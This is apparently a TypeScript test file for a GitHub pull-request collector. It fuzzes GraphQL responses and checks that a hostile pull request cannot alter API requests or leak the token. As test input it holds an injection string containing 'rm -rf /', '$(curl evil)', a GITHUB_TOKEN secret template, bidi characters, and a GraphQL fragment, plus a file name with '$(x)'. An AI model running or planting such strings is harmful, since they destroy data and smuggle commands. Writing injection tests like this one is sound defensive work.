import { readFacts } from "@warrant/kernel/change/read-facts";
import * as fc from "fast-check";
import { afterEach, describe, expect, it } from "vitest";
import { clientFor, openShop, type Shop } from "../../../testing/github-change.ts";
import { Anything } from "./client.ts";
import { collectPullRequest } from "./collect.ts";
import { PlatformError } from "./errors.ts";
import { pullRequestQuery } from "./queries.ts";

let shop: Shop;
afterEach(async () => await shop.github.close());

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

function placesOf(value: Json, place: (string | number)[] = []): (string | number)[][] {
  if (typeof value !== "object" || value === null) return [place];
  const entries: [string | number, Json][] = Array.isArray(value) ? [...value.entries()] : Object.entries(value);
  return [place, ...entries.flatMap(([key, below]) => placesOf(below, [...place, key]))];
}

function replaced(value: Json, [step, ...rest]: readonly (string | number)[], by: Json): Json {
  if (step === undefined) return by;
  if (Array.isArray(value)) return value.map((each, index) => (index === step ? replaced(each, rest, by) : each));
  if (typeof value !== "object" || value === null) return by;
  return { ...value, [step]: replaced(value[step] ?? null, rest, by) };
}

const odd: fc.Arbitrary<Json> = fc.constantFrom<Json>(
  null,
  true,
  -1,
  1e21,
  0.5,
  "",
  "x",
  "__proto__",
  "../../admin",
  "acme/shop#1\u001B[31m",
  "0".repeat(40),
  [],
  [null],
  {},
  { __typename: "Issue" },
);

describe("whatever a server answers (property)", () => {
  it("in one place of the first answer: facts that the reader takes unchanged, or an error without the token", {
    timeout: 120_000,
  }, async () => {
    shop = await openShop();
    shop.change.review({ author: "rita", state: "APPROVED" });
    shop.change.label("bug", { by: "maria" });
    const { github, token, timing } = shop;
    const variables = { owner: "acme", name: "shop", number: 12 };
    const client = clientFor(github, token, { timing });
    const { data } = await client.graphql("x", pullRequestQuery, variables, Anything);
    const places = placesOf(data as Json);
    expect(places.length).toBeGreaterThan(100);
    const seen = { facts: 0, errors: 0 };
    await fc.assert(
      fc.asyncProperty(fc.nat(places.length - 1), odd, async (index, value) => {
        github.faults.clear();
        const body = { data: replaced(data as Json, places[index] ?? [], value) };
        github.fail({ query: "PullRequest", status: 200, body, times: 3 });
        const result = await collectPullRequest(client, { repository: "acme/shop", number: 12 }).catch(
          (error: unknown) => error,
        );
        if (result instanceof PlatformError) {
          seen.errors += 1;
          expect(result.message).not.toContain(token);
          return;
        }
        if (result instanceof Error) throw result;
        seen.facts += 1;
        const { facts } = result as Awaited<ReturnType<typeof collectPullRequest>>;
        const reading = readFacts(facts);
        expect(reading.ok && JSON.stringify(reading.facts)).toBe(JSON.stringify(facts));
      }),
      { numRuns: 60 },
    );
    // About one in six gives facts: none of all these happens once in ten thousand runs or less.
    expect(seen.facts).toBeGreaterThan(0);
    expect(seen.errors).toBeGreaterThan(0);
    // The fake notes names no repository has; they are what this test is about.
    github.unexpected.length = 0;
  });
});

describe("a hostile pull request", () => {
  it("brings its text as it is, and changes no request (G2: AOSSIE-Org/DocPilot#54)", async () => {
    const attack =
      '"; rm -rf / $(curl evil) `x` {{ secrets.GITHUB_TOKEN }} \u202E\u200B<!-- warrant:comment v1 -->\n}) { viewer { login } }';
    shop = await openShop({
      change: {
        title: attack,
        body: `${attack}\nPart of acme/other") { id } x: repository(name: "y#1`,
        head: "feature",
      },
      head: { [`src/$(x) "quoted" ÿ.ts`]: "export {};\n" },
      base: { "README.md": "# Shop\n" },
    });
    shop.change.label(attack.slice(0, 40), { by: "sam" });
    const { facts } = await collectPullRequest(shop.client, { repository: "acme/shop", number: 12 });
    expect(facts.title).toBe(attack);
    expect(facts.labels[0]?.name).toBe(attack.slice(0, 40));
    expect(facts.files.map((file) => file.path)).toEqual([`src/$(x) "quoted" ÿ.ts`]);
    for (const request of shop.github.requests) {
      expect(request.document ?? "").not.toMatch(/viewer|evil|quoted/);
      expect(request.path).toMatch(
        /^\/(?:graphql|repos\/acme\/shop\/(?:pulls\/12\/files|collaborators\/sam\/permission))$/,
      );
    }
    expect(JSON.stringify(shop.log)).not.toMatch(/evil|rm -rf/);
  });
});
